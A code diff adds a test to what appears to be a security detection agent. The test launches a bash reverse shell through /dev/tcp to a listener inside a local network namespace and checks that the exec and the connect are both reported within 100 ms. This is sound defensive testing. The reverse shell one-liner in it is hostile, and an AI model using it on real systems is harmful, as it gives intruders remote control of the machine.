@@ -305,3 +305,47 @@ def test_kernel_version_picks_the_transport():
     assert kernel_has_ringbuf("5.8.0")
     assert not kernel_has_ringbuf("5.4.0-150-generic")
     assert not kernel_has_ringbuf("weird")
+
+
+def test_reverse_shell_connect_is_reported_within_100ms(start_agent):
+    """bash connecting out through /dev/tcp, to an address of a namespace this test makes
+    (traffic stays on this machine): the exec and the connect are both findings."""
+    name = f"nw-rs-{os.getpid()}"
+    subprocess.run(["ip", "netns", "add", name], check=True, timeout=30)
+    listener = None
+    try:
+        for cmd in (["ip", "link", "set", "lo", "up"], ["ip", "addr", "add", "10.200.0.1/32", "dev", "lo"]):
+            subprocess.run(["ip", "netns", "exec", name, *cmd], check=True, timeout=30)
+        listener = subprocess.Popen(
+            ["ip", "netns", "exec", name, sys.executable, "-c",
+             "import socket, time\ns = socket.socket(); s.bind(('10.200.0.1', 4444)); s.listen()\n"
+             "print('up', flush=True); c, _ = s.accept(); time.sleep(2)"],
+            stdout=subprocess.PIPE, text=True)
+        assert listener.stdout is not None and listener.stdout.readline().strip() == "up"
+        agent = start_agent()
+        started = time.monotonic()
+        shell = subprocess.Popen(["ip", "netns", "exec", name, "bash", "-c",
+                                  "bash -i >& /dev/tcp/10.200.0.1/4444 0>&1"])
+        seen: list[dict] = []
+
+        def note(f: dict) -> bool:
+            seen.append(f)
+            return f["rule"] == "reverse-shell-shell-connect"
+
+        try:
+            at, f = agent.finding(note)
+        except Exception:
+            print(agent.record.read_text()[-3000:], seen)
+            raise
+        assert f["source"] == "connect"
+        assert f["connection"]["dst"] == "10.200.0.1" and f["connection"]["dport"] == 4444
+        assert f["connection"]["netns"] == os.stat(f"/run/netns/{name}").st_ino
+        assert at - started < 0.100, f"connect to finding took {(at - started) * 1000:.1f} ms"
+        assert any(x["rule"] == "reverse-shell-dev-tcp" and x["source"] == "exec" for x in seen) or \
+            agent.finding(lambda f: f["rule"] == "reverse-shell-dev-tcp")
+        shell.wait(timeout=10)
+    finally:
+        if listener is not None:
+            listener.kill()
+            listener.wait()
+        subprocess.run(["ip", "netns", "del", name], check=False, timeout=30)
